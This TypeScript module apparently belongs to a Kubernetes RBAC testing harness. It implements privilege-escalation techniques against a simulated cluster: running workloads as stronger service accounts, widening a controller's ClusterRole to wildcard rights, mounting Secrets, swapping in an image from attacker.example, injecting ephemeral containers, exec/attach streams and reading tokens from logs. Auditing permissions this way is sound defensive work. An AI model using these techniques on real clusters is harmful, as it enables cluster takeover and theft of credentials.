/** Ways from a right on workloads to the rights of the accounts that they can run as, and to what they can mount. */
import { request } from 'node:https';
import { Refused, type Attacker } from './attacker';
import type { Found } from './kubelet';
import { core, defineTechniques, on, type Rule, type Technique } from './technique';
import { STRONG, podSpec, type World } from './world';

const CREATION = 'Kubernetes, RBAC good practices: workload creation, T1610, CIS 5.1.4';

/** A kind of workload, and the object in which a pod of the strong account stands. */
interface Workload {
  readonly resource: string;
  readonly group: string;
  readonly wrap: (app: string, spec: object) => object;
}

const labelled = (app: string, spec: object): object => ({ metadata: { labels: { app } }, spec });
const selected = (app: string, spec: object, more: object = {}): object => ({
  ...{ selector: { matchLabels: { app } }, template: labelled(app, spec) },
  ...more,
});
const job = (app: string, spec: object): object => ({
  template: labelled(app, { ...spec, restartPolicy: 'Never' }),
});

const WORKLOADS: readonly Workload[] = [
  { resource: 'pods', group: '', wrap: (_, spec) => spec },
  {
    resource: 'replicationcontrollers',
    group: '',
    wrap: (app, spec) => ({ selector: { app }, template: labelled(app, spec) }),
  },
  { resource: 'deployments', group: 'apps', wrap: selected },
  { resource: 'replicasets', group: 'apps', wrap: selected },
  {
    resource: 'statefulsets',
    group: 'apps',
    wrap: (app, spec) => selected(app, spec, { serviceName: app }),
  },
  { resource: 'daemonsets', group: 'apps', wrap: selected },
  { resource: 'jobs', group: 'batch', wrap: job },
  {
    resource: 'cronjobs',
    group: 'batch',
    wrap: (app, spec) => ({ schedule: '* * * * *', jobTemplate: { spec: job(app, spec) } }),
  },
];

const collectionOf = ({ group, resource }: Pick<Workload, 'group' | 'resource'>, target: string): string =>
  `${group === '' ? '/api/v1' : `/apis/${group}/v1`}/namespaces/${target}/${resource}`;

/** Uses the token that a container found. */
async function uses(me: Attacker, world: World, { token }: Found): Promise<boolean> {
  return token !== undefined && world.becomesAdministrator(me.bearing(token));
}

function creates(workload: Workload): Technique {
  return {
    name: `makes ${workload.resource} that run as a stronger account`,
    source: CREATION,
    needs: { target: [{ group: workload.group, resource: workload.resource, verbs: ['create'] }] },
    attempt: async (me, world, target) => {
      const spec = workload.wrap(me.id, podSpec({ serviceAccountName: STRONG }));
      const metadata = { name: me.id, labels: { app: me.id } };
      await me.must('POST', collectionOf(workload, target), { metadata, spec });
      return uses(me, world, await world.foundIn(target, me.id));
    },
  };
}

/** A workload that is there and runs nothing gets another account, and something to run. */
function changes(resource: string, change: (template: object) => object): Technique {
  const workload = WORKLOADS.find((one) => one.resource === resource)!;
  return {
    name: `changes ${resource} to run as a stronger account`,
    source: CREATION,
    needs: { target: [{ group: workload.group, resource, verbs: ['patch'] }] },
    attempt: async (me, world, target) => {
      const idle = resource === 'daemonsets' ? {} : { replicas: 0 };
      const nowhere = { nodeSelector: { nowhere: 'yes' } };
      const spec = workload.wrap(me.id, podSpec(resource === 'daemonsets' ? nowhere : {}));
      const body = { metadata: { name: me.id }, spec: { ...spec, ...idle } };
      const path = await world.exists(me, collectionOf(workload, target), body);
      const template = { spec: { serviceAccountName: STRONG, nodeSelector: null } };
      await me.patch(path, { spec: change(template) });
      return uses(me, world, await world.foundIn(target, me.id));
    },
  };
}

/** Opens a stream through the API server to the kubelet, and reads what comes. */
async function stream(me: Attacker, port: number, path: string): Promise<string> {
  return new Promise((done, fail) => {
    const headers = { connection: 'Upgrade', upgrade: 'SPDY/3.1' };
    const options = {
      host: '127.0.0.1',
      port,
      path,
      method: 'POST',
      agent: false,
      ...me.credentials,
      headers,
    };
    const call = request(options);
    call.on('upgrade', (_, socket, head) => {
      let text = head.toString();
      socket.on('data', (part: Buffer) => (text += part.toString()));
      socket.on('end', () => done(text));
      socket.on('error', fail);
    });
    call.on('response', (answer) => {
      let text = '';
      answer.on('data', (part: Buffer) => (text += part.toString()));
      answer.on('end', () => fail(new Refused(`POST ${path}`, answer.statusCode ?? 0, text)));
    });
    call.on('error', fail);
    call.end();
  });
}

function streams(subresource: string, query: string, source: string, what: string): Technique {
  return {
    name: what,
    source,
    needs: { target: [core(`pods/${subresource}`, 'create')] },
    attempt: async (me, world, target) => {
      const path = `/api/v1/namespaces/${target}/pods/guarded/${subresource}?${query}`;
      const text = await stream(me, world.own.plane.ports.apiServer, path);
      return uses(me, world, JSON.parse(text) as Found);
    },
  };
}

const SECRET_VOLUME = { name: 'loot', secret: { secretName: 'treasure' } };

/** A pod that mounts a volume into its container. */
function mounting(volume: { readonly name: string }, more: object = {}): object {
  const spec = podSpec({ volumes: [volume], ...more }) as { containers: object[] };
  const volumeMounts = [{ name: volume.name, mountPath: '/loot' }];
  return { ...spec, containers: spec.containers.map((container) => ({ ...container, volumeMounts })) };
}

export { mounting };

const PODS: Rule = core('pods', 'create');

export const WORKLOAD_TECHNIQUES = defineTechniques(
  ...WORKLOADS.map(creates),
  changes('deployments', (template) => ({ replicas: 1, template })),
  changes('replicasets', (template) => ({ replicas: 1, template })),
  changes('statefulsets', (template) => ({ replicas: 1, template })),
  changes('daemonsets', (template) => ({ template })),
  {
    name: 'makes a pod in kube-system that runs as a controller',
    source: CREATION,
    needs: { 'kube-system': [PODS] },
    attempt: async (me, world) => {
      const spec = podSpec({ serviceAccountName: 'clusterrole-aggregation-controller' });
      const metadata = { name: me.id, labels: { app: me.id } };
      await me.must('POST', '/api/v1/namespaces/kube-system/pods', { metadata, spec });
      const { token = '' } = await world.foundIn('kube-system', me.id);
      const own =
        '/apis/rbac.authorization.k8s.io/v1/clusterroles/system:controller:clusterrole-aggregation-controller';
      await world.keep(own);
      const controller = me.bearing(token);
      await controller.patch(own, { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] });
      return world.becomesAdministrator(controller);
    },
  },
  {
    name: 'makes a pod that mounts a Secret',
    source: 'Kubernetes, RBAC good practices: workload creation, T1552.007, CIS 5.1.4',
    needs: { target: [PODS] },
    attempt: async (me, world, target) => {
      const metadata = { name: me.id, labels: { app: me.id } };
      await me.must('POST', `/api/v1/namespaces/${target}/pods`, { metadata, spec: mounting(SECRET_VOLUME) });
      return (await world.foundIn(target, me.id)).secrets['value'] === world.treasure;
    },
  },
  {
    name: 'makes a deployment that mounts a Secret',
    source: 'Kubernetes, RBAC good practices: workload creation, T1552.007, CIS 5.1.4',
    needs: { target: [on('apps', 'deployments', 'create')] },
    attempt: async (me, world, target) => {
      const spec = selected(me.id, mounting(SECRET_VOLUME));
      const path = `/apis/apps/v1/namespaces/${target}/deployments`;
      await me.must('POST', path, { metadata: { name: me.id }, spec });
      return (await world.foundIn(target, me.id)).secrets['value'] === world.treasure;
    },
  },
  {
    name: 'puts its image into a pod that runs as a stronger account',
    source: 'Kubernetes, RBAC good practices: workload creation, T1525',
    needs: { target: [core('pods', 'patch')] },
    attempt: async (me, world, target) => {
      const path = `/api/v1/namespaces/${target}/pods/guarded`;
      const images = (image: string) => [{ op: 'replace', path: '/spec/containers/0/image', value: image }];
      const json = 'application/json-patch+json';
      await me.patch(path, images('attacker.example/image:1'), json);
      const found = await world.foundIn(target, 'guarded');
      await world.admin('PATCH', path, images('registry.example/app:1'), { 'content-type': json });
      return uses(me, world, found);
    },
  },
  {
    name: 'adds a debug container to a pod that runs as a stronger account',
    source: 'Kubernetes, Ephemeral containers, T1609',
    needs: { target: [core('pods/ephemeralcontainers', 'patch')] },
    attempt: async (me, world, target) => {
      // A pod of its own: nobody can take such a container out again.
      const spec = podSpec({ serviceAccountName: STRONG, nodeName: 'worker' });
      const pods = `/api/v1/namespaces/${target}/pods`;
      const labels = { app: me.id };
      const path = await world.exists(me, pods, { metadata: { name: me.id, labels }, spec });
      type Mounts = { spec: { volumes: { name: string }[] } };
      const [volume] = (await world.admin<Mounts>('GET', path)).spec.volumes;
      const volumeMounts = [{ name: volume?.name, mountPath: '/loot' }];
      const container = { name: 'debug', image: 'attacker.example/image:1', volumeMounts };
      await me.patch(
        `${path}/ephemeralcontainers`,
        { spec: { ephemeralContainers: [container] } },
        'application/strategic-merge-patch+json',
      );
      return uses(me, world, await world.kubelet('worker').found(target, me.id, 'debug'));
    },
  },
  streams(
    'exec',
    'command=cat&stdout=1',
    'T1609, CIS 5.1.14',
    'runs a command in a pod of a stronger account',
  ),
  streams('attach', 'stdout=1&stdin=1', 'T1609', 'attaches to a container of a stronger account'),
  streams('portforward', '', 'T1090', 'reaches an open port of a pod that hands out its token'),
  {
    name: 'reads a token in a log',
    source: 'T1552.001',
    needs: { target: [core('pods/log', 'get')] },
    attempt: async (me, world, target) => {
      const path = `/api/v1/namespaces/${target}/pods/guarded/log`;
      return uses(me, world, await me.must<Found>('GET', path));
    },
  },
);
